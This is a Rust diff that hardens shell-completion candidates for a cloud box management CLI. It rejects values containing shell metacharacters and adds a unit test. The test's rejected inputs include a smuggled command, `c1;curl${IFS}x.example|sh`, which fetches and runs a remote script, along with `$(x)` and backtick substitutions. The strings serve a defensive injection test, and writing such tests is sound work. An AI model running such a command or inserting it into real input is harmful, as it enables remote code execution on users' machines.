@@ -97,9 +97,13 @@ fn look_again(line: &Line) {
     drop(command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).spawn());
 }
 
-fn candidate(value: impl Into<String>, help: impl Into<String>) -> CompletionCandidate {
-    let help = help.into();
-    CompletionCandidate::new(value.into()).help((!help.is_empty()).then(|| help.into()))
+/// A word that a shell may be given; `None` for one that is more than a word to it. What is offered gets into the line as it
+/// is, and a tag can say anything.
+fn candidate(value: impl Into<String>, help: impl Into<String>) -> Option<CompletionCandidate> {
+    let (value, help): (String, String) = (value.into(), help.into());
+    let begins = |c: char| c.is_ascii_alphanumeric() || "_/".contains(c);
+    let plain = value.starts_with(begins) && value.chars().all(|c| begins(c) || ".-=+,@:".contains(c));
+    plain.then(|| CompletionCandidate::new(value).help((!help.is_empty()).then(|| help.into())))
 }
 
 /// Names of roles that there are boxes of; where no box is known, those of roles.
@@ -119,7 +123,7 @@ pub(crate) fn roles_with_boxes() -> Vec<CompletionCandidate> {
         (1, _) => "1 box".to_owned(),
         (all, running) => format!("{all} boxes, {running} running"),
     };
-    roles.into_iter().map(|(role, counts)| candidate(role, words(counts))).collect()
+    roles.into_iter().filter_map(|(role, counts)| candidate(role, words(counts))).collect()
 }
 
 /// The role of a box, and behind it files of this machine: what `rsync` takes.
@@ -136,7 +140,7 @@ pub(crate) fn role_then_paths(typed: &OsStr) -> Vec<CompletionCandidate> {
 /// Names of all roles.
 pub(crate) fn roles() -> Vec<CompletionCandidate> {
     let Ok(library) = Library::open(&[]) else { return Vec::new() };
-    library.names().into_iter().map(|name| candidate(name.to_string(), "")).collect()
+    library.names().into_iter().filter_map(|name| candidate(name.to_string(), "")).collect()
 }
 
 /// Names of roles that can be launched.
@@ -144,7 +148,7 @@ pub(crate) fn roles_to_launch() -> Vec<CompletionCandidate> {
     let Ok(library) = Library::open(&[]) else { return Vec::new() };
     let launched = library.names().into_iter().filter_map(|name| {
         let role = library.load(&name).ok().filter(|role| !role.abstract_)?;
-        Some(candidate(name.to_string(), role.description))
+        candidate(name.to_string(), role.description)
     });
     launched.collect()
 }
@@ -154,12 +158,12 @@ pub(crate) fn roles_with_images() -> Vec<CompletionCandidate> {
     let world = World::open();
     let mut names: BTreeSet<&str> = world.known.boxes.iter().map(|found| found.role.as_str()).collect();
     names.extend(world.known.images.iter().filter(|(_, images)| !images.is_empty()).map(|(of, _)| of.as_str()));
-    names.into_iter().map(|name| candidate(name, "")).collect()
+    names.into_iter().filter_map(|name| candidate(name, "")).collect()
 }
 
 /// Instance ids.
 pub(crate) fn instance_ids() -> Vec<CompletionCandidate> {
-    World::open().meant().map(|found| candidate(found.id.as_str(), described(found))).collect()
+    World::open().meant().filter_map(|found| candidate(found.id.as_str(), described(found))).collect()
 }
 
 /// Ordinals of the boxes of a role.
@@ -169,7 +173,9 @@ pub(crate) fn ordinals() -> Vec<CompletionCandidate> {
         return Vec::new();
     };
     let meant = world.known.boxes.iter().filter(|found| found.role == role);
-    meant.map(|found| candidate(found.ordinal.to_string(), format!("{}, {}", found.id, described(found)))).collect()
+    meant
+        .filter_map(|found| candidate(found.ordinal.to_string(), format!("{}, {}", found.id, described(found))))
+        .collect()
 }
 
 fn described(found: &SeenBox) -> String {
@@ -181,7 +187,7 @@ fn described(found: &SeenBox) -> String {
 pub(crate) fn clusters() -> Vec<CompletionCandidate> {
     let world = World::open();
     let names: BTreeSet<&str> = world.meant().filter_map(|found| found.cluster.as_deref()).collect();
-    names.into_iter().map(|name| candidate(name, "")).collect()
+    names.into_iter().filter_map(|name| candidate(name, "")).collect()
 }
 
 /// Images of the role that is typed: ordinals and ids.
@@ -194,40 +200,42 @@ pub(crate) fn images() -> Vec<CompletionCandidate> {
     let below = |name: &str| world.line.first_of([name.rsplit('/').next().unwrap_or(name)].into_iter()).is_some();
     let of = name.or(full).or_else(|| world.known.images.keys().map(String::as_str).find(|name| below(name)));
     let images = of.and_then(|of| world.known.images.get(of)).into_iter().flatten().enumerate();
-    images.flat_map(|(at, image)| [candidate(at.to_string(), &image.name), candidate(&image.id, &image.name)]).collect()
+    let words = images
+        .flat_map(|(at, image)| [candidate(at.to_string(), &image.name), candidate(image.id.as_str(), &image.name)]);
+    words.flatten().collect()
 }
 
 /// Regions.
 pub(crate) fn regions() -> Vec<CompletionCandidate> {
     let configured: Vec<String> = configuration().values(|fragment| fragment.region.as_ref());
     let names: BTreeSet<&str> = REGIONS.into_iter().chain(configured.iter().map(String::as_str)).collect();
-    names.into_iter().map(|name| candidate(name, "")).collect()
+    names.into_iter().filter_map(|name| candidate(name, "")).collect()
 }
 
-/// Availability zones in which there are boxes.
+/// Availability zones in which there are boxes, wherever they were seen: the word at hand says where to look.
 pub(crate) fn zones() -> Vec<CompletionCandidate> {
-    let world = World::open();
+    let known = Cache::all();
     let configured: Vec<String> = configuration().values(|fragment| fragment.zone.as_ref());
-    let seen = world.known.boxes.iter().map(|found| found.zone.as_str()).filter(|zone| !zone.is_empty());
+    let seen = known.iter().flat_map(|known| &known.boxes).map(|found| found.zone.as_str());
     let names: BTreeSet<&str> = seen.chain(configured.iter().map(String::as_str)).collect();
-    names.into_iter().map(|name| candidate(name, "")).collect()
+    names.into_iter().filter_map(|name| candidate(name, "")).collect()
 }
 
-/// Namespaces: those of the configuration, and those in which boxes were seen.
+/// Namespaces: those of the configuration, and all in which boxes were seen: the word at hand says where to look.
 pub(crate) fn namespaces() -> Vec<CompletionCandidate> {
-    let world = World::open();
+    let known = Cache::all();
     let mut names: BTreeSet<String> =
         configuration().values(|fragment| fragment.namespace.as_ref()).into_iter().collect();
     names.insert(Namespace::root().as_str().to_owned());
-    let seen = world.known.boxes.iter().filter_map(|found| found.name.rsplit_once('/'));
+    let seen = known.iter().flat_map(|known| &known.boxes).filter_map(|found| found.name.rsplit_once('/'));
     names.extend(seen.map(|(namespace, _)| format!("{namespace}/")));
-    names.into_iter().map(|name| candidate(name, "")).collect()
+    names.into_iter().filter_map(|name| candidate(name, "")).collect()
 }
 
 /// Profiles of the configuration.
 pub(crate) fn profiles() -> Vec<CompletionCandidate> {
     let configured = configuration();
-    configured.profiles().map(|(name, ..)| candidate(name, "")).collect()
+    configured.profiles().filter_map(|(name, ..)| candidate(name, "")).collect()
 }
 
 /// Options of the role that is typed, up to the `=`.
@@ -239,5 +247,22 @@ pub(crate) fn options() -> Vec<CompletionCandidate> {
         return Vec::new();
     };
     let Ok(role) = library.load(&role) else { return Vec::new() };
-    role.options.iter().map(|(name, spec)| candidate(format!("{name}="), &spec.help)).collect()
+    role.options.iter().filter_map(|(name, spec)| candidate(format!("{name}="), &spec.help)).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn t5_what_is_more_than_a_word_to_a_shell_is_not_offered() {
+        for good in ["web", "/prod/web", "/__me__/", "c1.a-b_c", "size=", "us-west-2a,us-west-2b", "0", "i-01234567"] {
+            assert!(candidate(good, "").is_some(), "{good:?}");
+        }
+        for bad in
+            ["", "-x", "=ls", "~", "a b", "c1;curl${IFS}x.example|sh", "a\nb", "*", "a*", "$(x)", "`x`", "a'b", "é"]
+        {
+            assert!(candidate(bad, "").is_none(), "{bad:?}");
+        }
+    }
 }
